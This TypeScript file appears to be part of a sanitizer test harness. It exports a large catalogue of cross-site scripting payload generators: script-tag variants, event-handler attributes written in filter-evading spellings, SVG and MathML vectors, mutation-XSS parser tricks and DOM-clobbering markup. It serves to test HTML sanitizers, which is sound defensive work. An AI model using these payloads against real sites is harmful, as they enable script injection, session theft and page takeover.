/** Markup that tries to run something. */
import type { Markup } from './bait.ts';

const scripts: readonly Markup[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT>`,
  ({ js }) => `<script\n>${js}</script\n>`,
  ({ js }) => `<script/x>${js}</script>`,
  ({ js }) => `<script>${js}`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ js }) => `<script type="text/javascript;version=1.7">${js}</script>`,
  ({ url }) => `<script src="${url('src')}"></script>`,
  ({ host }) => `<script src=//${host}/relative></script>`,
  ({ url }) => `<script async defer src='${url('async')}' crossorigin></script>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<script src="data:;base64,${Buffer.from(js).toString('base64')}"></script>`,
  ({ url }) =>
    `<script type=importmap>{"imports":{"x":"${url('map')}"}}</script><script type=module>import "x"</script>`,
  ({ js }) => `<script nonce=x>${js}</script><script integrity="">${js}</script>`,
  ({ js }) => `<head><script>${js}</script></head><body>x`,
  ({ js }) => `<html><script>${js}</script><body>x</body></html><script>${js}</script>`,
  ({ js }) => `<!--[if gte mso 9]><script>${js}</script><![endif]-->`,
  ({ js }) => `<![CDATA[<script>${js}</script>]]>`,
  ({ js }) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  ({ js }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  ({ js }) => `\u0000<scr\u0000ipt>${js}</scr\u0000ipt>`,
  ({ js }) => `<\u0000script>${js}</script>`,
  ({ js }) => `\ufeff<script>${js}</script>`,
  ({ js }) => `<table><script>${js}</script></table>`,
  ({ js }) => `<select><script>${js}</script></select>`,
  ({ js }) => `<p title="</p><script>${js}</script>">x</p>`,
  ({ js }) => `<div title='>'<script>${js}</script>'>x</div>`,
  ({ js }) => `<a href="x" title="\`"><script>${js}</script>\``,
  ({ js }) => `<% <script>${js}</script> %>`,
];

/** Elements with an event that comes by itself, or with the least that somebody does. */
const EVENTS: readonly (readonly [element: string, event: string, rest?: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='],
  ['img', 'onloadstart', 'src=x'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['body', 'onscroll', 'style=height:9999px'],
  ['body', 'onmessage'],
  ['div', 'onpointerrawupdate', 'style=height:999px'],
  ['div', 'onmouseover', 'style=height:999px'],
  ['div', 'onclick', 'style=position:fixed;inset:0'],
  ['div', 'onwheel', 'style=height:999px'],
  ['div', 'onfocus', 'tabindex=0 autofocus'],
  ['div', 'onfocusin', 'contenteditable autofocus'],
  ['div', 'onbeforecopy', 'contenteditable'],
  ['div', 'onanimationstart', 'style=animation:x'],
  ['div', 'ontransitionend', 'style=transition:all'],
  ['div', 'onscrollend', 'style=overflow:scroll;height:1px'],
  ['input', 'onfocus', 'autofocus'],
  ['input', 'onblur', 'autofocus'],
  ['input', 'onformdata', 'type=image src=x'],
  ['button', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['keygen', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'oncancel', 'open'],
  ['marquee', 'onstart'],
  ['marquee', 'onbounce', 'loop=1'],
  ['video', 'onerror', 'src=x'],
  ['video', 'oncanplay', 'autoplay src=x'],
  ['audio', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x autoplay'],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['iframe', 'onload', 'srcdoc=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['style', 'onload'],
  ['script', 'onerror', 'src=x'],
  ['track', 'onerror', 'default src=x'],
  ['source', 'onerror', 'src=x'],
  ['form', 'onsubmit'],
  ['meter', 'onmouseenter', 'value=1'],
  ['x', 'onfocus', 'tabindex=1 autofocus'],
  ['x', 'oncontentvisibilityautostatechange', 'style=display:block;content-visibility:auto'],
];

/** The ways to write an attribute that filters have missed. */
const SPELLINGS: readonly ((element: string, event: string, rest: string, js: string) => string)[] = [
  (element, event, rest, js) => `<${element} ${rest} ${event}="${js}">`,
  (element, event, rest, js) => `<${element} ${rest} ${event}=${js}>`,
  (element, event, rest, js) => `<${element} ${rest} ${event.toUpperCase()}='${js}'>`,
  (element, event, rest, js) => `<${element}/${rest}/${event}=${js}/>`,
  (element, event, rest, js) => `<${element}\n${rest}\n${event}\n=\n${js}\n>`,
  (element, event, rest, js) => `<${element}\f${rest}\f${event}=&#${js.charCodeAt(0)};${js.slice(1)}>`,
  (element, event, rest, js) => `<${element} x="x"${rest} x='"'${event}="${js}">`,
  (element, event, rest, js) => `<${element} ${rest} \u0000${event}="${js}" ${event}\u0000="${js}">`,
  (element, event, rest, js) => `<${element} ${rest} ${event}="${js}"`,
];

const handlers: readonly Markup[] = EVENTS.map(([element, event, rest = ''], i) => {
  const spelled = SPELLINGS[i % SPELLINGS.length];
  const other = SPELLINGS[(i + 4) % SPELLINGS.length];
  return ({ js }) => `${spelled?.(element, event, rest, js)}x</${element}>${other?.(element, event, rest, js)}`;
});

const vectors: readonly Markup[] = [
  ({ js }) => `<svg onload=${js}>`,
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>${js.replace('(', '&#40;')}</script></svg>`,
  ({ url }) => `<svg><script href="${url('svg-script')}"/></svg>`,
  ({ js }) => `<svg><script xlink:href="data:,${js}"/></svg>`,
  ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><set onbegin=${js} attributeName=x></svg>`,
  ({ js }) => `<svg><animateTransform onend=${js} attributeName=transform dur=1ms></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href values=javascript:${js}></animate><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><a><set attributeName=xlink:href to=javascript:${js} /><text y=20>x</text></a></svg>`,
  ({ js }) =>
    `<svg><a><animate attributeName=href from=javascript:${js} to=javascript:${js} begin=0s fill=freeze /></a></svg>`,
  ({ js }) => `<svg><a href="javascript:${js}"><rect width=999 height=999 /></a></svg>`,
  ({ js }) => `<svg><a xlink:href="&#106;avascript:${js}"><text>x</text></a></svg>`,
  ({ js }) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  ({ js }) => `<svg><foreignObject><body onload=${js}></foreignObject></svg>`,
  ({ js }) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  ({ js }) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  ({ js }) => `<svg><desc><style><a title="</style><img src=x onerror=${js}>">`,
  ({ js }) =>
    `<svg><handler type=text/javascript ev:event=load xmlns:ev=http://www.w3.org/2001/xml-events>${js}</handler></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${js}</script></svg>#x"></svg>`,
  ({ js }) => `<svg><image href=x onerror=${js}></svg>`,
  ({ js }) => `<svg><discard onbegin=${js}></svg>`,
  ({ js }) => `<svg><g onload=${js}></g></svg><svg/onload=${js}//`,
  ({ js }) => `<svg:svg onload=${js}></svg:svg><SVG ONLOAD=${js}></SVG>`,
];

/** What one parser takes for text and the next one for markup. */
const mutations: readonly Markup[] = [
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  ({ js }) => `<math><mtext><table><mglyph><style><math><img src=x onerror=${js}>`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  ({ js }) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  ({ js }) => `<math><mi><malignmark><style><!--</style><img src=x onerror=${js}>--></mi></math>`,
  ({ js }) => `<math href="javascript:${js}"><mtext>x</mtext></math>`,
  ({ js }) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${js}">x</maction></math>`,
  ({ js }) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<svg><p><style><g title="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<svg><desc><noscript><p title="</noscript><img src=x onerror=${js}>"></desc></svg>`,
  ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ({ js }) => `<noscript><style></noscript><img src=x onerror=${js}></style>`,
  ({ js }) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  ({ js }) => `<noframes><img title="</noframes><img src=x onerror=${js}>"></noframes>`,
  ({ js }) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`,
  ({ js }) => `<title><img title="</title><img src=x onerror=${js}>"></title>`,
  ({ js }) => `<xmp><img title="</xmp><img src=x onerror=${js}>"></xmp>`,
  ({ js }) => `<style><img title="</style><img src=x onerror=${js}>"></style>`,
  ({ js }) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`,
  ({ js }) => `<plaintext><img src=x onerror=${js}>`,
  ({ js }) => `<listing>&lt;img src=x onerror=${js}&gt;</listing><pre>\n\n<img src=x onerror=${js}></pre>`,
  ({ js }) =>
    `<template><img src=x onerror=${js}></template><template><template></template><script>${js}</script></template>`,
  ({ js }) => `<template shadowrootmode=open><img src=x onerror=${js}><slot></slot></template>`,
  ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<!---><img src=x onerror=${js}>-->`,
  ({ js }) => `<!-- --!><img src=x onerror=${js}>-->`,
  ({ js }) => `<!doctype html [<!ENTITY x "<img src=x onerror=${js}>">]><p>&x;</p>`,
  ({ js }) => `</br></p><a href=x><a href="<img src=x onerror=${js}>">x</a></a>`,
  ({ js }) => `<table><td><table><a></table><style><img src=x onerror=${js}></style></td></table>`,
  ({ js }) => `<select><option><style></option></select><img src=x onerror=${js}></style>`,
  ({ js }) => `<select><iframe></select><img src=x onerror=${js}>`,
  ({ js }) => `<a><b><i><u><s><a><b><i><u><s><p><a><div><img src=x onerror=${js}></a></p>`,
  ({ js }) => `${'<div>'.repeat(600)}<math><mtext><style><img src=x onerror=${js}></style>${'</div>'.repeat(600)}`,
  ({ js }) => `${'<form><div>'.repeat(300)}<svg><title><img src=x onerror=${js}></title></svg>`,
  ({ js }) => `${'<font>'.repeat(520)}<table><tr><td><noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ({ js }) => `<p id="&quot;&gt;&lt;img src=x onerror=${js}&gt;" title='"><img src=x onerror=${js}>'>x</p>`,
  ({ js }) => `<img alt="\`\`onerror=${js}" src="x\`"><img src="x" alt="\u2028onerror=${js}">`,
  ({ js }) => `<img src=x:\u00a0onerror=${js} alt='<!--' title='--><img src=x onerror=${js}>'>`,
];

/** Names that stand in the way of a page's own scripts. */
const clobbering: readonly Markup[] = [
  () => '<a id=ran></a><a id=ran name=x></a><img name=body><form name=document><input name=cookie></form>',
  () => '<form id=location action=x></form><a id=top></a><a name=parent href=x></a>',
  () => '<img name=getElementById><img name=querySelector><img name=createElement><iframe name=fetch></iframe>',
  () => '<form><input name=attributes><input name=parentNode><input name=nodeName><input name=remove></form>',
  () =>
    '<a id=__proto__></a><a name=constructor></a><p id=hasOwnProperty></p><p class="message body-frame toast">x</p>',
  ({ js }) => `<p is="x-x" onclick=${js}>x</p><x-x></x-x><slot name=x>y</slot>`,
  ({ js }) => `<div popover id=pop onbeforetoggle=${js}>x</div><button popovertarget=pop>y</button>`,
  ({ js }) => `<p accesskey=x onclick=${js}>x</p><a accesskey=e href="javascript:${js}">y</a>`,
];

export const RUNNING: Readonly<Record<string, readonly Markup[]>> = {
  scripts,
  handlers,
  vectors,
  mutations,
  clobbering,
};
